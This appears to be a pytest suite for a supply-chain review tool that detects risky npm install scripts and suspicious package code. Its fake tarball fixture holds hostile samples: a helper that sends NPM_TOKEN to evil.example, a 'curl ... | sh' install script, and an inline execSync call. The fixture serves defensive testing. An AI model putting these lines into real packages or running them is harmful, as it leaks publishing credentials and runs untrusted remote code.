"""install-script, script target resolution and suspicious-code on hand-built data."""

from __future__ import annotations

from signal_fakes import FakeTarball, manifest

from reviewer.code import PackageCode, analyze_package, grade
from reviewer.code.tarballs import TarballFiles
from reviewer.graph.model import Package, Source
from reviewer.signals.finding import Severity
from reviewer.signals.install_scripts import (
    install_script_finding,
    install_script_upgrade_finding,
    install_scripts_of,
    lifecycle_scripts,
)
from reviewer.signals.suspicious_code import to_finding


def test_hooks_in_run_order_and_prepare_only_for_git_file_link() -> None:
    scripts = {"postinstall": "node b.js", "preinstall": "node a.js", "prepare": "tsc", "test": "jest"}
    hooks, implicit = lifecycle_scripts(scripts, None, None, Source.REGISTRY)
    assert list(hooks) == ["preinstall", "postinstall"] and not implicit
    hooks, _ = lifecycle_scripts(scripts, None, None, Source.GIT)
    assert hooks["prepare"] == "tsc"


def test_implicit_node_gyp() -> None:
    assert lifecycle_scripts({}, None, True) == ({"install": "node-gyp rebuild"}, True)
    assert lifecycle_scripts({}, False, True) == ({}, False)  # gypfile: false
    assert lifecycle_scripts({"preinstall": "x"}, None, True) == ({"preinstall": "x"}, False)
    assert lifecycle_scripts({}, None, None) == ({}, False)
    hooks, implicit = lifecycle_scripts({"postinstall": "node p.js"}, True, None)
    assert list(hooks) == ["install", "postinstall"] and implicit


def test_order_of_evidence_lockfile_manifest_flag_unknown() -> None:
    pkg = Package("x", "1.0.0", has_install_script=True)
    scripts = install_scripts_of(pkg, manifest("x", "1.0.0", scripts={"postinstall": "node i.js"}))
    assert scripts.present and scripts.origin == "lockfile" and scripts.scripts == {"postinstall": "node i.js"}
    # lockfile says no, manifest has none: no finding.
    none = install_scripts_of(Package("x", "1.0.0", has_install_script=False), manifest("x", "1.0.0"))
    assert install_script_finding("x@1.0.0", none) is None
    # lockfile silent: the manifest decides.
    manifest_only = install_scripts_of(Package("x", "1.0.0"), manifest("x", "1.0.0", scripts={"install": "sh i.sh"}))
    assert manifest_only.origin == "manifest" and manifest_only.present
    # no scripts in the document (abbreviated): hasInstallScript.
    flagged = install_scripts_of(Package("x", "1.0.0"), manifest("x", "1.0.0", scripts=None, has_install_script=True))
    assert flagged.origin == "registry-flag" and flagged.present
    # nothing at all: unknown, never a pass.
    nothing = install_scripts_of(Package("x", "1.0.0"), manifest("x", "1.0.0", scripts=None))
    finding = install_script_finding("x@1.0.0", nothing)
    assert finding is not None and finding.unknown and "not provided" in finding.summary


def test_install_script_finding_and_upgrade() -> None:
    pkg = Package("x", "1.1.0")
    new = install_scripts_of(pkg, manifest("x", "1.1.0", scripts={"postinstall": "node setup.js"}))
    old = install_scripts_of(Package("x", "1.0.0"), manifest("x", "1.0.0"))
    plain = install_script_finding(pkg.key, new)
    assert plain is not None and plain.severity is Severity.MODERATE
    assert plain.summary == "postinstall: node setup.js"
    upgrade = install_script_upgrade_finding(pkg.key, old, new)
    assert upgrade is not None and upgrade.severity is Severity.HIGH
    assert upgrade.details["added"] == ["postinstall"]
    same = install_script_upgrade_finding(pkg.key, new, new)
    assert same is not None and same.severity is Severity.MODERATE
    changed_to = install_scripts_of(pkg, manifest("x", "1.1.0", scripts={"postinstall": "node other.js"}))
    changed = install_script_upgrade_finding(pkg.key, new, changed_to)
    assert changed is not None and changed.details["changed"] == ["postinstall"]


TARBALL = FakeTarball({
    "package.json": '{"name": "x", "version": "1.0.0", "main": "lib/index.js"}',
    "scripts/setup.js": "const helper = require('./helper')\nhelper.run()\n",
    "scripts/helper.js": (
        "const https = require('https')\n"
        "const token = process.env.NPM_TOKEN\n"
        "https.request({host: 'evil.example', path: '/' + token}).end()\n"
    ),
    "install.sh": "curl -s https://evil.example/x | sh\n",
    "lib/index.js": "module.exports = 1\n",
})


def analysed(tarball: FakeTarball, scripts: dict[str, str]) -> PackageCode:
    meta = {"name": "x", "version": "1.0.0", "main": "lib/index.js", "scripts": scripts}
    return analyze_package(TarballFiles(tarball), meta)


def test_resolves_node_sh_inline_and_requires() -> None:
    scripts = {
        "preinstall": "node ./scripts/setup",
        "install": "sh install.sh && node -e \"require('child_process').execSync('id')\"",
        "postinstall": "FOO=1 node-pre-gyp install --fallback-to-build",
    }
    code = analysed(TARBALL, scripts)
    labels = [f.path for f in code.files]
    assert "scripts/setup.js" in labels and "scripts/helper.js" in labels
    assert "install.sh" in labels and "<install node -e>" in labels
    assert "lib/index.js" in labels  # the entry point is read too
    assert any("node-pre-gyp" in u for u in code.unresolved)


def test_missing_file_is_reported_not_guessed() -> None:
    code = analysed(TARBALL, {"postinstall": "node nothere.js"})
    assert code.unresolved and "not in the package" in code.unresolved[0]


def test_suspicious_code_lines_and_critical_combination() -> None:
    code = analysed(TARBALL, {"postinstall": "node scripts/setup.js"})
    finding = to_finding("x@1.0.0", code, grade(code), None, None, None)
    assert finding.severity is Severity.CRITICAL  # token variable + network, at install time
    located = {(e.file, e.line) for e in finding.evidence}
    assert ("scripts/helper.js", 1) in located  # require('https')
    assert ("scripts/helper.js", 2) in located  # process.env.NPM_TOKEN
    assert "credential material" in finding.summary and "NPM_TOKEN" in finding.summary


def test_shell_pipe_and_benign_script() -> None:
    code = analysed(TARBALL, {"install": "sh install.sh"})
    assert grade(code)[0].severity >= Severity.HIGH
    assert "downloads a program or script and runs it" in grade(code)[0].summary
    benign = FakeTarball({"build.js": "const fs = require('fs')\nfs.mkdirSync('build', {recursive: true})\n"})
    assert grade(analysed(benign, {"postinstall": "node build.js"})) == []


def test_hostile_sizes_have_no_byte_cap_but_a_time_budget() -> None:
    import time

    big = "writeFile(" * 300_000  # 3 MB, one line
    tarball = FakeTarball({"a.js": big, "b.js": "require('./a')\n"})
    started = time.perf_counter()
    code = analyze_package(TarballFiles(tarball), {"name": "x", "version": "1.0.0",
                                                   "scripts": {"postinstall": "node b.js"}}, time_budget_s=20)
    assert time.perf_counter() - started < 30
    read = code.file("a.js")
    assert (read is not None and read.size == len(big)) or code.incomplete
